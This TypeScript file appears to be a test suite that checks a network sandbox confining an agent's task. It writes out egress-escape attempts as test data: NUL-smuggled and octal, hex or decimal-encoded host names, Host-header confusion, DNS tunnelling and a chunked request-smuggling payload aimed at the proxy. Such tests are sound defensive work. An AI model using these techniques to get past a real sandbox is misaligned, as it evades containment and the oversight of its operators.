import type {Canary} from '../../core/canary.js'
import {sidecarPort} from '../../core/layout.js'
import {inTask} from './cases-in-task.js'

/** Who tries: the agent of the throwaway task, or a place beside the pods, behind the firewall alone. */
export type Place = 'task' | 'beside the pods' | 'cluster API' | 'machine'

/** What must come out: no canary hears the case's token, or what the attempt says fits. */
export type Verdict = 'no canary hears it' | RegExp

export interface Attack {
  /** as in the table of known attacks; a suffix where one attack has several ways */
  id: string
  class: string
  where: Place
  /** one line for people */
  attack: string
  expect: string
  verdict: Verdict
  /** which layer alone stands in the way: together its cases say whether it is enforced */
  layer?: 'fence' | 'firewall' | 'seccomp'
  /** function of the attacker's program and its arguments */
  do: readonly [string, ...(string | number | readonly (string | number)[])[]]
}

/** What the cases are aimed at. */
export interface Targets {
  canaries: readonly Canary[]
  /** `ADDRESS:PORT` that answer the machine over TLS: API server, kubelet, dispatcher */
  closed: readonly {name: string; address: string; port: number}[]
  /** the text that a canary must not hear in a case */
  token: (id: string) => string
  /** URL path of the hosted repository, `/shop.git` */
  gitHost: string
}

const HEARD = 'no canary hears it'
const PROXY = sidecarPort.explicit

/** What must work, on every route that an attack takes: an attack on a dead route proves nothing. */
export function controls({gitHost}: Targets): Attack[] {
  const ready = `GET /ready HTTP/1.1\r\nHost: ${gitHost}\r\nConnection: close\r\n\r\n`
  const answers = /^answered: HTTP\/1\.1 200/
  const control = (
    id: string,
    attack: string,
    expect: string,
    verdict: RegExp,
    act: Attack['do'],
  ): Attack => ({
    id: `CONTROL-${id}`,
    class: 'CONTROL',
    where: 'task',
    attack,
    expect,
    verdict,
    do: act,
  })
  return [
    control('tcp', 'TCP to a server of the task’s own', 'answers', /^answered: own$/, ['mine', 1]),
    control('udp', 'UDP to a server of the task’s own', 'answers', /^answered: own$/, ['mine', 2]),
    control('dns', `the name ${gitHost}`, 'resolves to a synthetic address', /^NOERROR 198\.1[89]\./, [
      'dns',
      gitHost,
    ]),
    control('https', `https://${gitHost}/ready, led through the sidecar`, 'answers 200', answers, [
      'https',
      gitHost,
      443,
      gitHost,
      ready,
    ]),
    control('connect', `the same by CONNECT to the sidecar`, 'answers 200', answers, [
      'https',
      gitHost,
      443,
      gitHost,
      ready,
      ['127.0.0.1', PROXY],
    ]),
    control('git', 'git ls-remote origin', 'lists branches', /^0 .*refs\/heads/s, [
      'shell',
      'cd "$HOME/$CAGE_PROJECT" && git ls-remote origin',
    ]),
    control('search', 'the search for secrets, for a text that is there', 'finds it', /^found in /, [
      'search',
      'CAGE_PROJECT=',
    ]),
  ]
}

export function attacks(targets: Targets): Attack[] {
  const {canaries, closed, token, gitHost} = targets
  return [
    ...canaries.flatMap((canary) => direct(canary, token)),
    ...canaries
      .filter(({where}) => where === 'machine')
      .flatMap((canary) => throughSidecar(canary, token, gitHost)),
    ...closed.map(({name, address, port}): Attack => ({
      id: `ADDR-5.${name.replaceAll(' ', '-')}`,
      class: 'ADDR',
      where: 'task',
      attack: `TLS to the ${name} at ${address}:${port}`,
      expect: 'the sidecar or nobody is there',
      verdict: /^(sidecar|nobody)$/,
      // The firewall lets pods reach it: nothing but the fence keeps the agent away.
      ...(name === 'dispatcher' ? {layer: 'fence' as const} : {}),
      do: ['who', address, port],
    })),
    ...inTask,
  ]
}

/** From where no fence is: behind the firewall alone. What it says is `connected` or `no connection`. */
export function besidePods({canaries, closed}: Targets): Attack[] {
  const targets = [
    ...canaries.flatMap(({where, address, ports}) =>
      ports.map((port) => ({name: `canary on the ${where}`, id: `${where}.${port}`, address, port})),
    ),
    ...closed
      .filter(({name}) => name !== 'dispatcher')
      .map((target) => ({...target, id: target.name.replaceAll(' ', '-')})),
  ]
  return targets.map(({name, id, address, port}) => ({
    id: `OPEN-11.${id}`,
    class: 'OPEN',
    where: 'beside the pods',
    layer: 'firewall',
    attack: `TCP to the ${name} at ${address}:${port}`,
    expect: 'no connection',
    verdict: /^no connection$/,
    do: ['tcp', address, port],
  }))
}

/** Straight at a canary: only fence and firewall stand in the way. */
function direct({where, address, ports}: Canary, token: Targets['token']): Attack[] {
  const high = ports.find((port) => port > 1023) ?? 0
  const one = (id: string, cls: string, what: string, kind: 'tcp' | 'udp', port: number): Attack => ({
    id: `${id}.${where}`,
    class: cls,
    where: 'task',
    attack: `${what} to the ${where} at ${address}:${port}`,
    expect: HEARD,
    verdict: HEARD,
    do: [kind, address, port, token(`${id}.${where}`)],
  })
  return [
    one('OPEN-12', 'OPEN', 'raw TCP on a port of no rule', 'tcp', high),
    one('NET-3', 'NET', 'UDP on a high port', 'udp', high),
    ...(ports.includes(443)
      ? [
          one('OPEN-12.https', 'OPEN', 'raw TCP', 'tcp', 443),
          one('OPEN-12.http', 'OPEN', 'raw TCP', 'tcp', 80),
          one('NET-6', 'NET', 'QUIC’s UDP', 'udp', 443),
          one('NET-8.udp', 'NET', 'DNS’s UDP as a tunnel', 'udp', 53),
          one('NET-8.tcp', 'NET', 'DNS’s TCP as a tunnel', 'tcp', 53),
        ]
      : []),
  ]
}

/** At a canary by way of the sidecar, which may not be talked into going there. */
function throughSidecar({address: host, ports}: Canary, token: Targets['token'], gitHost: string): Attack[] {
  const high = ports.find((port) => port > 1023) ?? 0
  const [a = 0, b = 0, c = 0, d = 0] = host.split('.').map(Number)
  const whole = ((a * 256 + b) * 256 + c) * 256 + d
  const hex = (n: number) => `0x${n.toString(16)}`
  const octal = (n: number) => `0${n.toString(8)}`
  const request = (line: string, hostHeader: string) =>
    `${line} HTTP/1.1\r\nHost: ${hostHeader}\r\nConnection: close\r\n\r\n`
  const attack = (id: string, what: string, act: (text: string) => Attack['do']): Attack => ({
    id,
    class: id.split('-')[0] ?? id,
    where: 'task',
    attack: what,
    expect: HEARD,
    verdict: HEARD,
    do: act(token(id)),
  })
  const connect = (id: string, what: string, target: string) =>
    attack(id, `CONNECT to ${what}`, (text) => ['tunnel', target, text])
  const proxied = (id: string, what: string, url: (text: string) => string, hostHeader: string) =>
    attack(id, what, (text) => ['tcp', '127.0.0.1', PROXY, request(`GET ${url(text)}`, hostHeader)])
  return [
    connect('TLS-3', 'a raw address', `${host}:443`),
    connect('NET-7', 'a port of no rule', `${host}:${high}`),
    connect('NET-8.connect', 'port 53', `${host}:53`),
    connect('NAME-1', 'a name with NUL in it', `${host}:443\0.${gitHost}:443`),
    connect('NAME-4.decimal', 'an address as one number', `${whole}:443`),
    connect('NAME-4.hex', 'an address in hex', `${[a, b, c, d].map(hex).join('.')}:443`),
    connect('NAME-4.octal', 'an address in octal', `${[a, b, c, d].map(octal).join('.')}:443`),
    connect('NAME-4.short', 'an address of two numbers', `${a}.${(b * 256 + c) * 256 + d}:443`),
    connect('NAME-4.mapped', 'an IPv4-mapped address', `[::ffff:${host}]:443`),
    connect('NAME-5', 'host and port confused', `${host}:443:443.${gitHost}:443`),
    connect('ADDR-2', 'a name that holds the address', `${host}.nip.io:443`),
    proxied('FRAME-6', 'absolute-form request for the address', (text) => `http://${host}/${text}`, host),
    proxied(
      'TLS-7',
      'absolute-form https request for the address',
      (text) => `https://${host}/${text}`,
      host,
    ),
    proxied('TLS-1', 'target the address, Host an allowed name', (text) => `http://${host}/${text}`, gitHost),
    proxied(
      'TLS-1.reverse',
      'target an allowed name, Host the address',
      (text) => `http://${gitHost}/${text}`,
      host,
    ),
    proxied(
      'NAME-5.user',
      'an allowed name as user of the address',
      (text) => `http://${gitHost}@${host}/${text}`,
      host,
    ),
    attack('TLS-9', 'plain HTTP to the address, Host an allowed name', (text) => [
      'tcp',
      host,
      80,
      request(`GET /${text}`, gitHost),
    ]),
    attack('TLS-6', 'TLS to the address, name and Host allowed', (text) => [
      'https',
      host,
      443,
      gitHost,
      request(`GET /${text}`, gitHost),
    ]),
    attack('FRAME-2', 'a second request hidden behind the body of the first', (text) => [
      'tcp',
      '127.0.0.1',
      PROXY,
      `GET http://${gitHost}/ready HTTP/1.1\r\nHost: ${gitHost}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${request(`GET http://${host}/${text}`, host)}`,
    ]),
  ]
}
